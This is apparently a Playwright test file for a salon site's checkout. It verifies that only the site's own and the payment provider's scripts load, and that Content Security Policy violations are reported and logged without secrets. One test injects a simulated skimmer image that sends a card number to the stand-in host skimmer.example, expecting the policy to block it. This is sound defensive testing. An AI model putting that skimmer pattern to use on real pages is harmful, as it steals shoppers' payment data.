import { readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import type { Page } from '@playwright/test'
import { printedLog } from '../../support/browser-salon'
import { expect, test } from '../../support/browser-test'
import { cardFrame, toOptions } from '../../support/paying'

/** All scripts of our own build. */
const built = new Set(
  readdirSync('.next/static', { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.js'))
    .map((name) => `/_next/static/${name.split(path.sep).join('/')}`),
)

/** The scripts in the page: our own by kind, all others by their full address. */
const inventory = async (page: Page): Promise<string[]> => {
  const site = new URL(page.url()).origin
  const scripts = await page.evaluate(() =>
    [...document.scripts].map(({ src, type, nonce, text }) => ({ src, type, nonce, text })),
  )
  const names = scripts.map(({ src, type, nonce, text }) => {
    const { origin, pathname, href } = src ? new URL(src) : { origin: '', pathname: '', href: '' }
    if (src) return origin === site && built.has(pathname) ? 'our build' : href
    if (type && type !== 'text/javascript') return `data: ${type}`
    if (nonce && text.includes('salonHeldTaps=[]')) return 'what holds taps, with nonce'
    return nonce && /__next_|TURBOPACK|\$R[A-Z]|requestAnimationFrame/.test(text)
      ? 'the frame’s own, with nonce'
      : text
  })
  return [...new Set(names)].sort()
}

/** Everything that a page requests from other origins. */
const foreignTo = (page: Page, site: string): string[] => {
  const asked: string[] = []
  page.on('request', (request) => {
    const { origin, protocol, pathname } = new URL(request.url())
    if (protocol.startsWith('http') && origin !== site) asked.push(origin + pathname)
  })
  return asked
}

const ours = ['our build', 'the frame’s own, with nonce', 'what holds taps, with nonce']

test('checkout loads only our own scripts, and the payment form’s once a payment type is chosen', async ({
  page,
  baseURL,
}) => {
  const site = new URL(baseURL ?? '')
  const form = `http://${site.hostname}:${Number(site.port) + 1000}`
  const blocked: string[] = []
  page.on('console', (message) => {
    if (/content.security.policy/i.test(message.text())) blocked.push(message.text())
  })
  const foreign = foreignTo(page, site.origin)
  await toOptions(page, { day: 18 })
  expect(await inventory(page)).toEqual(ours)
  expect(foreign).toEqual([])
  await page.reload()
  await expect(page.getByRole('button', { name: 'Pay half' })).toBeVisible()
  expect(await inventory(page)).toEqual(ours)
  expect(foreign).toEqual([])
  await page.getByRole('button', { name: 'Pay half' }).click()
  await expect(cardFrame(page).getByLabel('Card number')).toBeVisible()
  expect(await inventory(page)).toEqual([`${form}/v1/square.js`, ...ours].sort())
  expect([...new Set(foreign.map((address) => new URL(address).origin))]).toEqual([form])
  expect(blocked).toEqual([])
})

/** The output of the salon so far. */
const printed = (): string => readFileSync(printedLog, 'utf8')

test('content blocked by checkout’s policy is reported to the page’s report address and logged without the page', async ({
  page,
}) => {
  const answer = await page.goto('/booking-appointment/checkout?step=a-secret-of-the-visitor')
  const policy = answer?.headers()['content-security-policy'] ?? ''
  const endpoint = /csp="([^"]+)"/.exec(answer?.headers()['reporting-endpoints'] ?? '')?.[1] ?? ''
  expect(policy).toContain('report-to csp')
  expect(policy).toContain(`report-uri ${endpoint}`)
  // A browser controlled by a test sends no reports itself, so the page sends the report.
  const status = await page.evaluate(async (address) => {
    const violation = new Promise<SecurityPolicyViolationEvent>((resolve) =>
      document.addEventListener('securitypolicyviolation', resolve, { once: true }),
    )
    const picture = document.createElement('img')
    picture.src = 'https://skimmer.example/pixel.png?card=4111'
    document.body.append(picture)
    const { documentURI, blockedURI, effectiveDirective, disposition } = await violation
    const body = { documentURL: documentURI, blockedURL: blockedURI, effectiveDirective, disposition }
    const report = { type: 'csp-violation', age: 0, url: documentURI, user_agent: navigator.userAgent, body }
    const headers = { 'Content-Type': 'application/reports+json' }
    return (await fetch(address, { method: 'POST', headers, body: JSON.stringify([report]) })).status
  }, endpoint)
  expect(status).toBe(204)
  await expect.poll(printed).toContain('skimmer.example')
  expect(printed()).toContain('a page blocked something')
  expect(printed()).not.toMatch(/a-secret-of-the-visitor|card=4111|pixel\.png/)
})
